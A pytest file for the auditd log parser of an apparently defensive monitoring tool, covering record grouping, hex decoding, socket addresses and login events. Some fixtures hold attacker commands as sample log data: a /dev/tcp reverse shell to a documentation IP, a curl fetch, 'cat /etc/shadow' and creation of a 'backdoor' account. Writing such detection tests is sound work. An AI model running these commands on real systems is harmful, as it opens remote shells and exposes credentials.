"""Unit tests of the auditd reader: grouping, decoding, ENRICHED names, sockets, login records, errors."""

from __future__ import annotations

import io

import pytest

from shellwatch.events import Event, entity_id
from shellwatch.ingest._audit_records import Assembler, NotARecord, decode_argv, parse_records
from shellwatch.ingest._audit_syscalls import errno_name, syscall_name
from shellwatch.ingest.auditd import AuditdReader
from shellwatch.ingest.base import ParseIssue, ReadContext, ReaderOptions


def read(text: str, host: str | None = None) -> tuple[list[Event], ReadContext, list[ParseIssue]]:
    issues: list[ParseIssue] = []
    ctx = ReadContext("test.log", "auditd", ReaderOptions(host=host), issues.append)
    reader = AuditdReader(ReaderOptions(host=host))
    events = list(reader.read(io.BytesIO(text.encode()), ctx))
    return events, ctx, issues


def hexs(text: str) -> str:
    return text.encode().hex().upper()


SYSCALL = (
    "type=SYSCALL msg=audit(1700000000.{ms}:{serial}): arch=c000003e syscall={nr} success={ok} "
    "exit={exit} a0=1 a1=2 a2=3 a3=0 items={items} ppid=100 pid={pid} auid=1000 uid=1000 gid=1000 "
    'euid=0 suid=1000 fsuid=1000 egid=0 sgid=1000 fsgid=1000 tty=pts3 ses=9 comm="{comm}" '
    'exe="{exe}" key={key}'
)


def syscall(
    serial: int,
    *,
    nr: int = 59,
    pid: int = 200,
    comm: str = "bash",
    exe: str = "/usr/bin/bash",
    ok: str = "yes",
    exit: int = 0,
    items: int = 1,
    key: str = "(null)",
    ms: str = "500",
) -> str:
    return SYSCALL.format(
        serial=serial, nr=nr, pid=pid, comm=comm, exe=exe, ok=ok, exit=exit, items=items, key=key, ms=ms
    )


def execve_event(serial: int, *args: str, eoe: bool = True) -> list[str]:
    argv = " ".join(f'a{index}="{arg}"' for index, arg in enumerate(args))
    lines = [
        syscall(serial),
        f"type=EXECVE msg=audit(1700000000.500:{serial}): argc={len(args)} {argv}",
        f'type=CWD msg=audit(1700000000.500:{serial}): cwd="/home/alice"',
        f'type=PATH msg=audit(1700000000.500:{serial}): item=0 name="/bin/bash" inode=7 dev=fd:00 '
        "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
    ]
    if eoe:
        lines.append(f"type=EOE msg=audit(1700000000.500:{serial}): ")
    return lines


# --- grouping -------------------------------------------------------------------------------------


def test_execve_with_eoe_is_one_process_start_event() -> None:
    events, ctx, issues = read("\n".join(execve_event(10, "ls", "-la")) + "\n")
    assert issues == []
    assert ctx.records == 5
    assert len(events) == 1
    event = events[0]
    assert event["event.category"] == ["process"]
    assert event["event.type"] == ["start"]
    assert event["event.action"] == "executed"
    assert event["event.outcome"] == "success"
    assert event["event.sequence"] == 10
    assert event["auditd.serial"] == 10
    assert event["@timestamp"] == "2023-11-14T22:13:20.500000Z"
    assert event["process.args"] == ["ls", "-la"]
    assert event["process.args_count"] == 2
    assert event["process.command_line"] == "ls -la"
    assert event["process.working_directory"] == "/home/alice"
    assert event["process.pid"] == 200
    assert event["process.parent.pid"] == 100
    assert event["process.executable"] == "/usr/bin/bash"
    assert event["process.name"] == "bash"
    assert event["process.tty.name"] == "pts3"
    assert event["process.interactive"] is True
    assert event["user.id"] == "1000"
    assert event["user.effective.id"] == "0"
    assert event["process.real_user.id"] == "1000"
    assert event["process.saved_user.id"] == "1000"
    assert event["user.group.id"] == "1000"
    assert event["user.effective.group.id"] == "0"
    assert event["auditd.session"] == "9"
    assert "auditd.key" not in event
    assert event["auditd.data.syscall"] == "execve"
    assert event["auditd.data.arch"] == "x86_64"
    assert event["auditd.record_types"] == ["SYSCALL", "EXECVE", "CWD", "PATH"]
    assert event["file.path"] == "/bin/bash"
    assert event["file.mode"] == "0755"
    assert event["process.entity_id"] == entity_id("", 200, "2023-11-14T22:13:20.500000Z")
    assert event["log.offset"] == 0
    assert event["shellwatch.log.line"] == 1


def test_without_eoe_events_complete_at_end_of_file_in_order() -> None:
    lines = execve_event(10, "id", eoe=False) + execve_event(11, "whoami", eoe=False)
    events, _ctx, issues = read("\n".join(lines))
    assert issues == []
    assert [event["process.args"] for event in events] == [["id"], ["whoami"]]
    assert [event["shellwatch.log.line"] for event in events] == [1, 5]


def test_without_eoe_events_complete_once_serials_move_on() -> None:
    assembler = Assembler(window=4)
    completed = []
    for serial in (10, 11, 20):
        for record in parse_records(syscall(serial, items=0, nr=1)):
            completed.extend(assembler.add(record))
    assert [[record.serial for record in group] for group in completed] == [[10], [11]]
    assert [[record.serial for record in group] for group in assembler.finish()] == [[20]]


def test_window_bounds_open_events() -> None:
    assembler = Assembler(window=10_000, max_open=2)
    completed = []
    for serial in (1, 2, 3):
        for record in parse_records(syscall(serial, items=0, nr=1)):
            completed.extend(assembler.add(record))
    assert [[record.serial for record in group] for group in completed] == [[1]]


def test_interleaved_records_are_grouped_by_serial() -> None:
    lines = [
        syscall(30, pid=301, comm="curl", exe="/usr/bin/curl", items=0),
        syscall(31, pid=302, comm="sh", exe="/usr/bin/dash", items=0),
        'type=EXECVE msg=audit(1700000000.500:31): argc=1 a0="sh"',
        'type=EXECVE msg=audit(1700000000.500:30): argc=2 a0="curl" a1="http://198.51.100.7/x"',
        "type=EOE msg=audit(1700000000.500:31): ",
        "type=EOE msg=audit(1700000000.500:30): ",
    ]
    events, _ctx, _issues = read("\n".join(lines))
    assert [(event["process.pid"], event["process.args"]) for event in events] == [
        (302, ["sh"]),
        (301, ["curl", "http://198.51.100.7/x"]),
    ]
    assert events[0]["shellwatch.log.line"] == 2


def test_proctitle_completes_an_event_without_waiting_for_eoe() -> None:
    lines = [
        syscall(40, items=1),
        'type=EXECVE msg=audit(1700000000.500:40): argc=1 a0="id"',
        'type=PATH msg=audit(1700000000.500:40): item=0 name="/usr/bin/id" nametype=NORMAL',
        "type=PROCTITLE msg=audit(1700000000.500:40): proctitle=6964",
        "type=USER_LOGOUT msg=audit(1700000001.000:41): pid=1 uid=0 auid=1000 ses=9 msg='op=login "
        'id=1000 exe="/usr/sbin/sshd" hostname=? addr=? terminal=/dev/pts/3 res=success\'',
    ]
    events, _ctx, _issues = read("\n".join(lines))
    assert [event["event.action"] for event in events] == ["executed", "user_logout"]
    assert events[0]["process.title"] == "id"


def test_records_in_reverse_order_make_one_event_at_the_first_record() -> None:
    lines = list(reversed(execve_event(50, "true", eoe=False)))
    events, _ctx, _issues = read("\n".join(lines))
    assert len(events) == 1
    assert events[0]["process.args"] == ["true"]
    assert events[0]["shellwatch.log.line"] == 1
    assert events[0]["auditd.record_types"] == ["PATH", "CWD", "EXECVE", "SYSCALL"]


# --- decoding -------------------------------------------------------------------------------------


def test_hex_encoded_arguments_cwd_and_proctitle() -> None:
    command = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    title = b"\x00".join([b"bash", b"-c", command.encode()]).hex().upper()
    lines = [
        syscall(60),
        f'type=EXECVE msg=audit(1700000000.500:60): argc=3 a0="bash" a1="-c" a2={hexs(command)}',
        f"type=CWD msg=audit(1700000000.500:60): cwd={hexs('/home/a b')}",
        f"type=PROCTITLE msg=audit(1700000000.500:60): proctitle={title}",
    ]
    event = read("\n".join(lines))[0][0]
    assert event["process.args"] == ["bash", "-c", command]
    assert event["process.command_line"] == f"bash -c {command}"
    assert event["process.title"] == f"bash -c {command}"
    assert event["process.working_directory"] == "/home/a b"


def test_quoted_values_and_literals_are_not_hex_decoded() -> None:
    lines = [
        syscall(61, key='"abcd"'),
        'type=EXECVE msg=audit(1700000000.500:61): argc=2 a0="echo" a1="CAFE"',
    ]
    event = read("\n".join(lines))[0][0]
    assert event["process.args"] == ["echo", "CAFE"]
    assert event["auditd.key"] == ["abcd"]


def test_hex_comm_exe_and_multiple_keys() -> None:
    exe = "/usr/lib/x (deleted)"
    line = syscall(62, nr=1, items=0, key="61756F6D730165786563").replace(
        'exe="/usr/bin/bash"', f"exe={hexs(exe)}"
    )
    event = read(line)[0][0]
    assert event["process.executable"] == exe
    assert event["auditd.key"] == ["auoms", "exec"]
    assert event["event.action"] == "write"


def test_long_argument_split_over_records_is_reassembled() -> None:
    argument = "x" * 30 + " y"
    encoded = hexs(argument)
    lines = [
        syscall(70),
        f'type=EXECVE msg=audit(1700000000.500:70): argc=2 a0="echo" a1_len={len(argument)} '
        f"a1[0]={encoded[:20]}",
        f"type=EXECVE msg=audit(1700000000.500:70): a1[1]={encoded[20:40]}",
        f"type=EXECVE msg=audit(1700000000.500:70): a1[2]={encoded[40:]}",
    ]
    event = read("\n".join(lines))[0][0]
    assert event["process.args"] == ["echo", argument]
    assert event["process.args_count"] == 2


def test_execve_split_over_several_records() -> None:
    lines = [
        syscall(71),
        'type=EXECVE msg=audit(1700000000.500:71): argc=4 a0="cp" a1="-r"',
        'type=EXECVE msg=audit(1700000000.500:71): a2="/src" a3="/dst"',
    ]
    event = read("\n".join(lines))[0][0]
    assert event["process.args"] == ["cp", "-r", "/src", "/dst"]


def test_decode_argv_drops_trailing_nul() -> None:
    assert decode_argv("6C730000") == ["ls"]
    assert decode_argv('"(systemd)"') == ["(systemd)"]


def test_null_and_none_are_literal() -> None:
    line = syscall(72, nr=1, items=0).replace("tty=pts3", "tty=(none)")
    event = read(line)[0][0]
    assert "process.tty.name" not in event
    assert event["process.interactive"] is False
    assert "auditd.key" not in event


# --- ENRICHED and node= ---------------------------------------------------------------------------


def test_enriched_names_and_node() -> None:
    enriched = (
        '\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="alice" GID="staff" EUID="root" '
        'SUID="alice" FSUID="alice" EGID="root" SGID="staff" FSGID="staff"'
    )
    lines = [
        "node=db01 " + syscall(80) + enriched,
        'node=db01 type=EXECVE msg=audit(1700000000.500:80): argc=1 a0="id"',
        "node=db01 type=EOE msg=audit(1700000000.500:80): ",
    ]
    event = read("\n".join(lines), host="ignored")[0][0]
    assert event["host.name"] == "db01"
    assert event["user.name"] == "alice"
    assert event["user.effective.name"] == "root"
    assert event["process.real_user.name"] == "alice"
    assert event["user.group.name"] == "staff"
    assert event["user.effective.group.name"] == "root"
    assert event["related.user"] == ["alice", "root"]
    assert event["process.entity_id"] == entity_id("db01", 200, "2023-11-14T22:13:20.500000Z")


def test_host_option_when_there_is_no_node() -> None:
    event = read(syscall(81, nr=1, items=0), host="web01")[0][0]
    assert event["host.name"] == "web01"


def test_escaped_enriched_separator_from_forwarders() -> None:
    line = syscall(82, nr=1, items=0) + '\\u001DARCH=x86_64 SYSCALL=write AUID="carol"'
    event = read(line)[0][0]
    assert event["user.name"] == "carol"
    assert event["auditd.data.syscall"] == "write"


def test_records_joined_on_one_line() -> None:
    line = (
        syscall(83, items=0) + ' type=EXECVE msg=audit(1700000000.500:83): argc=1 a0="uptime"'
        ' type=CWD msg=audit(1700000000.500:83):  cwd="/var/log"'
    )
    events, ctx, issues = read(line)
    assert issues == []
    assert ctx.records == 3
    assert events[0]["process.args"] == ["uptime"]
    assert events[0]["process.working_directory"] == "/var/log"


# --- sockets --------------------------------------------------------------------------------------


def _connect(saddr: str, *, nr: int = 42, ok: str = "yes", exit: int = 0) -> list[str]:
    return [
        syscall(90, nr=nr, items=0, ok=ok, exit=exit),
        f"type=SOCKADDR msg=audit(1700000000.500:90): saddr={saddr}",
        "type=EOE msg=audit(1700000000.500:90): ",
    ]


def test_connect_ipv4() -> None:
    event = read("\n".join(_connect("0200115CCB0071090000000000000000")))[0][0]
    assert event["event.category"] == ["network"]
    assert event["event.type"] == ["connection", "start"]
    assert event["event.action"] == "connected-to"
    assert event["destination.ip"] == "203.0.113.9"
    assert event["destination.port"] == 4444
    assert event["network.type"] == "ipv4"
    assert event["related.ip"] == ["203.0.113.9"]
    assert "network.transport" not in event


def test_failed_connect_ipv6_keeps_destination() -> None:
    saddr = "0A0001BB" + "00000000" + "20010DB8000000000000000000000001" + "00000000"
    event = read("\n".join(_connect(saddr, ok="no", exit=-115)))[0][0]
    assert event["event.outcome"] == "failure"
    assert event["event.reason"] == "EINPROGRESS"
    assert event["destination.ip"] == "2001:db8::1"
    assert event["destination.port"] == 443
    assert event["network.type"] == "ipv6"


def test_connect_unix_socket() -> None:
    saddr = "0100" + b"/run/docker.sock".hex().upper() + "0000"
    event = read("\n".join(_connect(saddr)))[0][0]
    assert event["destination.address"] == "/run/docker.sock"
    assert event["auditd.data.socket.family"] == "unix"
    assert "destination.ip" not in event


def test_accept_fills_source() -> None:
    event = read("\n".join(_connect("0200E31CC6336407" + "00" * 8, nr=43)))[0][0]
    assert event["event.action"] == "accepted-connection-from"
    assert event["source.ip"] == "198.51.100.7"
    assert event["source.port"] == 58140


def test_enriched_saddr_is_preferred() -> None:
    lines = _connect("0200115CCB0071090000000000000000")
    lines[1] += "\x1dSADDR={ fam=inet laddr=192.0.2.1 lport=22 }"
    event = read("\n".join(lines))[0][0]
    assert event["destination.ip"] == "192.0.2.1"
    assert event["destination.port"] == 22


# --- user-space records ---------------------------------------------------------------------------


def _user(record_type: str, payload: str, serial: int = 95) -> str:
    return (
        f"type={record_type} msg=audit(1700000000.500:{serial}): pid=4242 uid=0 auid=4294967295 "
        f"ses=4294967295 msg='{payload}'"
    )


def test_failed_ssh_authentication() -> None:
    line = _user(
        "USER_AUTH",
        'op=PAM:authentication grantors=? acct="alice" exe="/usr/sbin/sshd" hostname=203.0.113.9 '
        "addr=203.0.113.9 terminal=ssh res=failed",
    )
    event = read(line)[0][0]
    assert event["event.category"] == ["authentication"]
    assert event["event.action"] == "user_auth"
    assert event["event.outcome"] == "failure"
    assert event["user.name"] == "alice"
    assert event["source.ip"] == "203.0.113.9"
    assert event["process.executable"] == "/usr/sbin/sshd"
    assert event["process.tty.name"] == "ssh"
    assert event["auditd.data.op"] == "PAM:authentication"
    assert "user.id" not in event
    assert "auditd.session" not in event


def test_session_start_and_end() -> None:
    start = _user("USER_START", 'op=PAM:session_open acct="alice" exe="/usr/sbin/sshd" addr=? res=success')
    end = _user("USER_END", 'op=PAM:session_close acct="alice" exe="/usr/sbin/sshd" res=success', 96)
    events = read(start + "\n" + end)[0]
    assert [(event["event.category"], event["event.type"]) for event in events] == [
        (["session"], ["start"]),
        (["session"], ["end"]),
    ]
    assert "source.ip" not in events[0]


def test_old_pam_format_with_parentheses() -> None:
    line = (
        "type=USER_START msg=audit(1170021601.344:297): user pid=13015 uid=0 auid=0 msg='PAM: session "
        'open acct=root : exe="/usr/sbin/crond" (hostname=?, addr=?, terminal=cron res=success)\''
    )
    event = read(line)[0][0]
    assert event["event.outcome"] == "success"
    assert event["user.name"] == "root"
    assert event["process.tty.name"] == "cron"


def test_user_cmd_is_a_process_event() -> None:
    line = _user("USER_CMD", f'cwd="/root" cmd={hexs("cat /etc/shadow")} terminal=pts/1 res=success')
    line = line.replace("auid=4294967295", "auid=1000")
    event = read(line)[0][0]
    assert event["event.category"] == ["process"]
    assert event["event.type"] == ["start"]
    assert event["process.command_line"] == "cat /etc/shadow"
    assert event["process.name"] == "cat"
    assert event["process.working_directory"] == "/root"
    assert event["process.tty.name"] == "pts/1"
    assert event["process.parent.pid"] == 4242
    assert event["user.id"] == "1000"


def test_account_creation_targets_the_new_user() -> None:
    line = _user("ADD_USER", 'op=add-user acct="backdoor" exe="/usr/sbin/useradd" res=success')
    event = read(line.replace("auid=4294967295", "auid=0"))[0][0]
    assert event["event.category"] == ["iam"]
    assert event["event.type"] == ["user", "creation"]
    assert event["user.target.name"] == "backdoor"
    assert event["user.id"] == "0"


def test_hex_acct_is_decoded() -> None:
    line = _user("USER_LOGIN", f'op=login acct={hexs("(invalid user)")} exe="/usr/sbin/sshd" res=failed')
    assert read(line)[0][0]["user.name"] == "(invalid user)"


def test_login_with_syscall_is_one_event() -> None:
    lines = [
        "type=LOGIN msg=audit(1700000000.500:97): pid=4242 uid=0 old-auid=4294967295 auid=1000 "
        'tty=(none) old-ses=4294967295 ses=7 res=1\x1dUID="root" OLD-AUID="unset" AUID="alice"',
        syscall(97, nr=1, items=0, pid=4242),
    ]
    events = read("\n".join(lines))[0]
    assert len(events) == 1
    assert events[0]["event.action"] == "login"
    assert events[0]["event.category"] == ["authentication"]
    assert events[0]["user.name"] == "alice"
    assert events[0]["auditd.data.old-auid"] == "4294967295"
    assert events[0]["auditd.record_types"] == ["LOGIN", "SYSCALL"]


def test_other_record_types_are_kept() -> None:
    line = "type=NETFILTER_CFG msg=audit(1481076984.827:17): table=filter family=2 entries=0"
    event = read(line)[0][0]
    assert event["event.action"] == "netfilter_cfg"
    assert event["auditd.data.table"] == "filter"


def test_unknown_record_without_header() -> None:
    events, _ctx, issues = read("type=UNKNOWN[1329] msg=?")
    assert issues == []
    assert events[0]["event.action"] == "unknown[1329]"
    assert "@timestamp" not in events[0]


# --- errors ---------------------------------------------------------------------------------------


def test_malformed_lines_are_counted_with_line_numbers_and_the_rest_parses() -> None:
    text = "\n".join(
        [
            "# a comment",
            "garbage line",
            *execve_event(100, "id"),
            "",
            "type=SYSCALL msg=audit(oops): arch=c000003e",
            "type=USER_CMD msg=audit(1700000001.000:101): pid=1 uid=0 auid=0 msg='cmd=\"ls\" res=success'",
        ]
    )
    events, ctx, issues = read(text)
    assert [(issue.line, issue.offset, issue.raw) for issue in issues] == [
        (2, 12, "garbage line"),
        (9, len("\n".join(text.split("\n")[:8])) + 1, "type=SYSCALL msg=audit(oops): arch=c000003e"),
    ]
    assert ctx.errors == 2
    assert ctx.records == 6
    assert [event["event.action"] for event in events] == ["executed", "user_cmd"]


def test_parse_records_rejects_text() -> None:
    with pytest.raises(NotARecord):
        parse_records("hello world")


def test_syslog_prefixed_record() -> None:
    records = parse_records("Mar  1 10:00:00 host audispd: node=h1 type=EOE msg=audit(1.2:3): ")
    assert (records[0].node, records[0].type, records[0].serial) == ("h1", "EOE", 3)


# --- sniffing and tables --------------------------------------------------------------------------


def test_sniff() -> None:
    assert AuditdReader.sniff(b"# comment\n\nnode=a type=EOE msg=audit(1.2:3): \n", "x")
    assert not AuditdReader.sniff(b"type=AUOMS_EXECVE audit(1.2:3): a=b\n", "x")
    assert not AuditdReader.sniff(b'{"SyslogMessage": "type=AUOMS_EXECVE"}\n', "x")
    assert not AuditdReader.sniff(b"Jan  1 00:00:00 host sshd[1]: hello\n", "x")


@pytest.mark.parametrize(
    ("arch", "number", "name"),
    [
        ("c000003e", "59", "execve"),
        ("c000003e", "322", "execveat"),
        ("c000003e", "42", "connect"),
        ("c000003e", "288", "accept4"),
        ("c000003e", "313", "finit_module"),
        ("40000003", "11", "execve"),
        ("40000003", "362", "connect"),
        ("c00000b7", "221", "execve"),
        ("c00000b7", "203", "connect"),
        ("c00000b7", "64", "write"),
        ("c000003e", "9999", "9999"),
        ("deadbeef", "59", "59"),
    ],
)
def test_syscall_names(arch: str, number: str, name: str) -> None:
    assert syscall_name(arch, number) == name


def test_errno_names() -> None:
    assert errno_name("-2") == "ENOENT"
    assert errno_name("0") is None
    assert errno_name("-9999") is None
